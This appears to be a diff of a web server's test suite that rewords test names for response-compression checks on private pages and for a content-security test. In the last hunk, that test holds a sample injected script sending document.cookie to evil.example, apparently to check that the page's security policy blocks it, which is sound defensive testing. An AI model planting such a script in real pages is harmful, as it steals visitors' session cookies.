@@ -158,22 +158,25 @@ describe('every kind of answer carries the headers that keep a visitor safe', ()
   })
 })
 
-describe('what is for one person only', () => {
-  test.each(['/cart', '/sign-in', '/cart.data'])('%s travels packed, as the browser wishes', async (path) => {
-    const askIn = (coding: string) => ask(path, { headers: { 'accept-encoding': coding } })
-    const [br, gzip, plain] = await Promise.all([askIn('gzip, br'), askIn('gzip'), askIn('identity')])
-    const all = [br, gzip, plain]
-    expect(all.map(({ headers }) => headers['content-encoding'])).toEqual(['br', 'gzip', undefined])
-    const texts = [brotliDecompressSync(br.body), gunzipSync(gzip.body), plain.body].map(String)
-    expect(new Set(texts.map((text) => text.replaceAll(/nonce="[^"]+"/g, ''))).size).toBe(1)
-    for (const { headers, body } of all) {
-      expect(headers).toMatchObject({ vary: 'Accept-Encoding', 'cache-control': NEVER })
-      expect(Number(headers['content-length'])).toBe(body.length)
-    }
-    expect(br.body.length).toBeLessThan(plain.body.length * 0.6)
-  })
+describe('pages for one person only', () => {
+  test.each(['/cart', '/sign-in', '/cart.data'])(
+    '%s is sent compressed, in the coding that the browser prefers',
+    async (path) => {
+      const askIn = (coding: string) => ask(path, { headers: { 'accept-encoding': coding } })
+      const [br, gzip, plain] = await Promise.all([askIn('gzip, br'), askIn('gzip'), askIn('identity')])
+      const all = [br, gzip, plain]
+      expect(all.map(({ headers }) => headers['content-encoding'])).toEqual(['br', 'gzip', undefined])
+      const texts = [brotliDecompressSync(br.body), gunzipSync(gzip.body), plain.body].map(String)
+      expect(new Set(texts.map((text) => text.replaceAll(/nonce="[^"]+"/g, ''))).size).toBe(1)
+      for (const { headers, body } of all) {
+        expect(headers).toMatchObject({ vary: 'Accept-Encoding', 'cache-control': NEVER })
+        expect(Number(headers['content-length'])).toBe(body.length)
+      }
+      expect(br.body.length).toBeLessThan(plain.body.length * 0.6)
+    },
+  )
 
-  test('what fits into a packet anyway is sent as it is', async () => {
+  test('answers that fit into a packet are sent uncompressed', async () => {
     const { headers, body } = await ask('/me', { headers: { 'accept-encoding': 'br' } })
     expect([headers['content-encoding'], headers['content-length']]).toEqual([undefined, String(body.length)])
   })
@@ -201,7 +204,7 @@ describe('content security', () => {
     }
   })
 
-  test('a script that comes into a page by a mistake is not allowed as if it were ours', async () => {
+  test('a script that came into a page by mistake is not allowed as if it were ours', async () => {
     await using own = await openTestStore()
     const evil = 'fetch("https://evil.example/" + document.cookie)'
     const page = own.services.content.page('about')
